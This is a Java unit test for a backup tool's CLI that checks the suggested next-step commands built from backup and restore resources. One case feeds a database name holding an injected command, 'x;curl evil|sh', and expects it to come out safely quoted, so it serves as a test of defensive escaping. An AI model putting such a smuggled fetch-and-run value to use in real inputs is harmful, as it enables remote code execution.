package dev.salvor.cli.show;

import static org.assertj.core.api.Assertions.assertThat;

import dev.salvor.api.Json;
import java.io.IOException;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class NextStepsTest {
  static Stream<Arguments> resources() {
    return Stream.of(
        Arguments.of("kind: BackupPolicy", "salvor backup a --wait -n shop"),
        Arguments.of(
            """
            kind: BackupPolicy
            spec: {source: {postgres: {databases: {names: [one, two]}}}}
            status:
              lastVerifiedRestore: {outcome: Verified}
              recoveryPoints: [{verdict: Verified}]
            """,
            "salvor restore a --latest-verified --from-database NAME --to-database NAME_copy --wait"
                + " -n shop"),
        Arguments.of(
            """
            kind: BackupPolicy
            spec: {source: {postgres: {databases: {names: ["x;curl evil|sh"]}}}}
            status: {recoveryPoints: [{verdict: Verified}]}
            """,
            "salvor restore a --to-database 'x;curl evil|sh_copy' --wait -n shop"),
        Arguments.of(
            """
            kind: BackupPolicy
            spec: {source: {volume: {path: /srv/shop}}}
            status: {recoveryPoints: [{id: x}]}
            """,
            "salvor verify a --wait -n shop, salvor restore a --to-folder /srv/shop_copy --wait -n"
                + " shop"),
        Arguments.of(
            """
            kind: BackupPolicy
            spec: {source: {dockerVolume: {composeProject: shop}}}
            status: {recoveryPoints: [{verdict: Verified}]}
            """,
            "salvor restore a --docker-volume NAME --to-docker-volume NAME_copy"
                + " --create-docker-volume --wait -n shop"),
        Arguments.of(
            """
            kind: BackupPolicy
            spec: {source: {volume: {claims: {names: [a]}}}}
            status: {failure: {reason: StoreFull}, recoveryPoints: [{verdict: Verified}]}
            """,
            "salvor doctor, salvor restore a --claim NAME --to-claim NAME-restored --create-claim"
                + " --wait -n shop"),
        Arguments.of(
            """
            kind: BackupStore
            status: {conditions: [{type: KeyEscrow, status: "False"}]}
            """,
            "salvor store recovery-sheet a -n shop"),
        Arguments.of("kind: BackupStore", ""),
        Arguments.of(
            "{kind: BackupRequest, status: {run: a-backup-x}}",
            "salvor logs a-backup-x -f -n shop"),
        Arguments.of(
            """
            kind: BackupRequest
            spec: {policyRef: {name: db}}
            status: {run: x, conditions: [{type: Ready, status: "True"}]}
            """,
            "salvor verify db --wait -n shop"),
        Arguments.of(
            """
            kind: RestoreRequest
            status: {undo: {command: "salvor restore --undo a"}, conditions: [{type: Ready, status: "True"}]}
            """,
            "salvor restore --undo a"),
        Arguments.of(
            """
            kind: RestoreRequest
            status: {failure: {reason: Evicted}, undo: {command: "salvor restore --undo a"}, conditions: [{type: Stalled, status: "True"}]}
            """,
            "salvor doctor, salvor restore --undo a"),
        Arguments.of("kind: SomethingNewer", ""));
  }

  @ParameterizedTest
  @MethodSource("resources")
  void areCommands(String yaml, String steps) throws IOException {
    var resource = Json.yaml().readTree(yaml);
    ((com.fasterxml.jackson.databind.node.ObjectNode) resource)
        .putObject("metadata")
        .put("name", "a")
        .put("namespace", "shop");

    assertThat(String.join(", ", NextSteps.of(resource))).isEqualTo(steps);
  }
}
